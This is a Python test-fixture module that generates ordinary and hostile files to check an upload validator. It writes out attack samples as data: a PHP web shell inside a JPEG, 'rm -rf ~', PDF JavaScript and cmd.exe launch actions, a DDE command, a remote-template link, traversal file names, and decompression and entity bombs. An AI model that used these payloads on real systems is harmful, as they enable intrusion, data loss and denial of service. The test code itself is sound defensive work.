"""Honest and hostile files of every kind, made here so that none lies in the repository. Builders give bytes."""

import io
import struct
import zlib
from collections.abc import Callable

from docx import Document
from PIL import Image

from tests.spreadsheets import hostile as sheets

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(pages: int = 1, *objects: bytes, catalog: bytes = b"", note: bytes = b"") -> bytes:
    """A whole PDF: catalog, page tree, pages, then `objects` numbered from 3 + pages; `note` makes it differ."""
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(pages))
    bodies = [
        b"<</Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<</Type /Pages /Kids [" + kids + b"] /Count %d /MediaBox [0 0 200 200]>>" % pages,
    ]
    bodies += [b"<</Type /Page /Parent 2 0 R>>"] * pages + list(objects)
    return assemble(bodies, note)


def assemble(bodies: list[bytes], note: bytes = b"", trailer: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.7\n%" + note.replace(b"\n", b" ") + b"\n")
    places = []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer <</Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, trailer, start)
    return bytes(out)


def stream(dictionary: bytes, body: bytes) -> bytes:
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (dictionary, len(body), body)


def hidden_in_object_stream(text: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(b"9 0 " + text)
    return pdf(1, stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode" + extra, packed))


def zeros(size: int) -> bytes:
    """Deflated zeros, made in steps."""
    packer, block = zlib.compressobj(9), bytes(1_000_000)
    return b"".join([*(packer.compress(block) for _ in range(size // 1_000_000)), packer.flush()])


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt("mat-khau", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def picture(form: str = "JPEG", size: tuple[int, int] = (64, 48), colour: int = 90) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (colour, 120, 60)).save(out, form)
    return out.getvalue()


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int = 1, height: int = 1, pixels: bytes | None = None, *more: bytes) -> bytes:
    """A grey PNG whose header says what it likes."""
    body = zlib.compress(b"\x00\x00") if pixels is None else pixels
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def box(name: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(body)) + name + body


def mp4(brand: bytes = b"isom", *boxes: bytes) -> bytes:
    inside = boxes or (box(b"moov", b"\x00" * 40), box(b"mdat", b"\x07" * 400))
    return box(b"ftyp", brand + b"\x00\x00\x02\x00" + brand) + b"".join(inside)


def mp3(frames: int = 4, tag: bytes = b"") -> bytes:
    """Frames of MPEG-1 layer III, 128 kbit/s, 44.1 kHz: 417 bytes each."""
    return tag + (b"\xff\xfb\x90\x00" + b"\x00" * 413) * frames


def docx(text: str = "Giấy chứng nhận") -> bytes:
    out = io.BytesIO()
    document = Document()
    document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def repacked(change: Callable[[dict[str, bytes]], None], source: bytes | None = None) -> bytes:
    """A DOCX with its members changed."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(source or docx())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    change(members)
    return sheets.pack({**members})


def docx_with(name: str, content: bytes = b"<a/>") -> bytes:
    return repacked(lambda members: members.update({name: content}))


def docx_replacing(old: bytes, new: bytes, part: str = "word/document.xml") -> bytes:
    return repacked(lambda members: members.update({part: members[part].replace(old, new, 1)}))


def remote_template() -> bytes:
    relation = (
        b'<Relationship Id="rId99" TargetMode="External" Target="http://192.0.2.1/a.dotm" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    return docx_replacing(b"</Relationships>", relation, "word/_rels/document.xml.rels")


def jpeg_with_pdf_comment() -> bytes:
    return picture()[:2] + b"\xff\xfe\x00\x30%PDF-1.7" + b" " * 38 + picture()[2:]


def presentation() -> bytes:
    return docx_replacing(b"wordprocessingml", b"presentationml", "[Content_Types].xml")


ENTITY_SHEET = sheets.sheet("", prolog=sheets.EXTERNAL_ENTITY)
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
JS_ACTION = b"<</S /JavaScript /JS (app.alert\\(1\\))>>"

GOOD: list[tuple[str, str, Callable[[], bytes]]] = [
    ("pdf", "giấy chứng nhận.pdf", pdf),
    ("pdf", "HOP DONG.PDF", lambda: pdf(300)),
    ("jpeg", "anh.jpg", picture),
    ("jpeg", "anh.jpeg", lambda: picture() + b"\x00" * 300),
    ("jpeg", "anh lon.jpg", lambda: picture(size=(8000, 6000))),
    ("png", "anh.png", lambda: picture("PNG")),
    ("webp", "anh.webp", lambda: picture("WEBP")),
    ("heic", "IMG_0001.HEIC", lambda: mp4(b"heic", box(b"meta", b"\x00" * 40), box(b"mdat", b"\x07" * 99))),
    ("docx", "phieu.docx", docx),
    ("xlsx", "so lieu.xlsx", sheets.workbook),
    ("mp4", "phim.mp4", mp4),
    ("m4a", "ghi am.m4a", lambda: mp4(b"M4A ")),
    ("mp3", "bai.mp3", mp3),
    ("mp3", "bai.mp3", lambda: mp3(4, b"ID3\x04\x00\x00\x00\x00\x00\x05hello")),
]

HOSTILE: list[tuple[str, str, str, Callable[[], bytes]]] = [
    ("empty", "empty_file", "a.pdf", lambda: b""),
    ("too-large", "file_too_large", "a.pdf", lambda: b"%PDF-1.7" + b"\x00" * 20_000_001),
    ("eicar", "virus_sample", "a.pdf", lambda: EICAR),
    ("eicar-in-pdf", "virus_sample", "a.pdf", lambda: pdf(note=EICAR)),
    ("eicar-in-docx", "virus_sample", "a.docx", lambda: docx_with("word/media/a.png", EICAR)),
    ("exe", "wrong_content", "a.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 99),
    ("elf", "wrong_content", "a.jpg", lambda: b"\x7fELF" + b"\x00" * 99),
    ("script", "wrong_content", "a.pdf", lambda: b"#!/bin/sh\nrm -rf ~\n"),
    ("svg-named-png", "wrong_content", "a.png", lambda: SVG),
    ("svg", "wrong_extension", "a.svg", lambda: SVG),
    ("html", "wrong_extension", "a.html", lambda: HTML),
    ("html-named-pdf", "wrong_content", "a.pdf", lambda: HTML),
    ("exe-name", "wrong_extension", "giay.pdf.exe", pdf),
    ("no-extension", "wrong_extension", "giay", pdf),
    ("zip", "wrong_content", "a.docx", lambda: sheets.pack({"a.txt": "x"})),
    ("zip-name", "wrong_extension", "a.zip", lambda: sheets.pack({"a.txt": "x"})),
    ("rar", "wrong_content", "a.pdf", lambda: b"Rar!\x1a\x07\x00" + b"\x00" * 99),
    ("old-word", "wrong_content", "a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    ("traversal-name", "unsafe_name", "../../etc/passwd.pdf", pdf),
    ("windows-path", "unsafe_name", "C:\\Windows\\a.pdf", pdf),
    ("rtl-name", "unsafe_name", "giay\u202efdp.exe.pdf", pdf),
    ("control-name", "unsafe_name", "giay\x00.pdf", pdf),
    ("reserved-name", "unsafe_name", "CON.pdf", pdf),
    ("png-named-pdf", "name_content_mismatch", "a.pdf", lambda: picture("PNG")),
    ("pdf-named-jpg", "name_content_mismatch", "a.jpg", pdf),
    ("xlsx-named-docx", "name_content_mismatch", "a.docx", sheets.workbook),
    ("docx-named-pdf", "name_content_mismatch", "a.pdf", docx),
    ("pdf-script", "pdf_script", "a.pdf", lambda: pdf(catalog=b"/OpenAction " + JS_ACTION)),
    (
        "pdf-script-written-odd",
        "pdf_script",
        "a.pdf",
        lambda: pdf(catalog=b"/OpenAction <</S /J#61vaScri#70t /JS (x)>>"),
    ),
    ("pdf-script-hidden", "pdf_script", "a.pdf", lambda: hidden_in_object_stream(JS_ACTION)),
    ("pdf-odd-filter", "pdf_odd", "a.pdf", lambda: hidden_in_object_stream(b"<<>>", b" /X /ASCIIHexDecode")),
    ("pdf-launch", "pdf_launch", "a.pdf", lambda: pdf(catalog=b"/OpenAction <</S /Launch /F (cmd.exe)>>")),
    ("pdf-submit", "pdf_script", "a.pdf", lambda: pdf(catalog=b"/OpenAction <</S /SubmitForm /F (http://x)>>")),
    ("pdf-embedded", "pdf_embedded", "a.pdf", lambda: pdf(1, stream(b"/Type /EmbeddedFile", b"MZ"))),
    ("pdf-xfa", "pdf_form", "a.pdf", lambda: pdf(catalog=b"/AcroForm <</XFA [] >>")),
    (
        "pdf-encrypted",
        "encrypted",
        "a.pdf",
        encrypted_pdf,
    ),
    ("pdf-bomb", "pdf_bomb", "a.pdf", lambda: pdf(1, stream(b"/Filter /FlateDecode", zeros(200_000_000)))),
    (
        "pdf-object-bomb",
        "pdf_bomb",
        "a.pdf",
        lambda: pdf(1, stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zeros(50_000_000))),
    ),
    (
        "pdf-bomb-twice",
        "pdf_bomb",
        "a.pdf",
        lambda: pdf(1, stream(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(zeros(50_000_000)))),
    ),
    ("pdf-pages", "too_many_pages", "a.pdf", lambda: pdf(301)),
    ("pdf-truncated", "truncated", "a.pdf", lambda: pdf(40)[:-1200]),
    ("pdf-broken", "broken_pdf", "a.pdf", lambda: b"%PDF-1.7\n" + b"x" * 3000 + b"\n%%EOF\n"),
    ("pdf-and-zip", "polyglot", "a.pdf", lambda: pdf() + sheets.pack({"a.txt": "x"})),
    ("pdf-and-zip-inside", "polyglot", "a.pdf", lambda: pdf(note=sheets.pack({"a": "x"}))),
    ("pdf-and-page", "polyglot", "a.pdf", lambda: pdf(note=b"<script>alert(1)</script>")),
    ("jpeg-and-zip", "polyglot", "a.jpg", lambda: picture() + sheets.pack({"a.txt": "x"})),
    ("jpeg-and-php", "polyglot", "a.jpg", lambda: picture() + b"<?php system($_GET[0]); ?>"),
    (
        "jpeg-and-pdf",
        "polyglot",
        "a.jpg",
        jpeg_with_pdf_comment,
    ),
    ("jpeg-truncated", "broken_picture", "a.jpg", lambda: picture(size=(400, 300))[:-700]),
    ("jpeg-only-magic", "broken_picture", "a.jpg", lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 99),
    ("png-huge", "too_many_pixels", "a.png", lambda: png(60_000, 60_000)),
    ("png-bomb", "broken_picture", "a.png", lambda: png(6_000, 6_000, zlib.compress(b"\x00" * 9))),
    ("png-trailing", "polyglot", "a.png", lambda: picture("PNG") + b"x"),
    ("png-truncated", "truncated", "a.png", lambda: picture("PNG")[:-9]),
    ("png-sums", "broken_picture", "a.png", lambda: picture("PNG").replace(b"IDATx", b"IDATy", 1)),
    ("png-text-bomb", "broken_picture", "a.png", lambda: png(1, 1, None, chunk(b"zTXt", b"a\0\0" + zeros(80_000_000)))),
    ("webp-truncated", "truncated", "a.webp", lambda: picture("WEBP")[:-5]),
    ("gif", "wrong_content", "a.png", lambda: picture("GIF")),
    ("mp4-truncated", "truncated", "a.mp4", lambda: mp4()[:-50]),
    ("mp4-trailing", "polyglot", "a.mp4", lambda: mp4() + b"\x00\x00\x00\x08<scr" + b"\x00\x00\x00\x02....."),
    ("mp4-without-film", "broken_media", "a.mp4", lambda: mp4(b"isom", box(b"free"))),
    ("mp3-noise", "broken_media", "a.mp3", lambda: b"\xff\xfb" + b"\x55" * 900),
    ("docx-bomb", "zip_bomb", "a.docx", lambda: docx_with("word/media/big.xml", b" " * 30_000_000)),
    ("docx-slip", "unsafe_member", "a.docx", lambda: docx_with("../../evil.xml")),
    ("docx-macro", "macro", "a.docx", lambda: docx_with("word/vbaProject.bin", b"\xd0\xcf")),
    ("docx-ole", "nested_archive", "a.docx", lambda: docx_with("word/embeddings/oleObject1.bin", b"\xd0\xcf")),
    ("docx-remote-template", "external_link", "a.docx", remote_template),
    ("docx-dde", "external_link", "a.docx", lambda: docx("DDEAUTO c:\\windows\\cmd.exe")),
    (
        "docx-entities",
        "xml_entities",
        "a.docx",
        lambda: docx_replacing(b"<w:document", sheets.BILLION_LAUGHS.encode() + b"<w:document"),
    ),
    ("docx-truncated", "broken_zip", "a.docx", lambda: docx()[:-100]),
    ("docx-polyglot", "polyglot", "a.docx", lambda: docx() + HTML),
    (
        "pptx",
        "wrong_content",
        "a.docx",
        presentation,
    ),
    ("xlsx-far-cell", "far_cell", "a.xlsx", lambda: sheets.far_cell("XFD1048576")),
    ("xlsx-bomb", "zip_bomb", "a.xlsx", sheets.bomb),
    (
        "xlsx-entities",
        "xml_entities",
        "a.xlsx",
        lambda: sheets.workbook(ENTITY_SHEET),
    ),
]
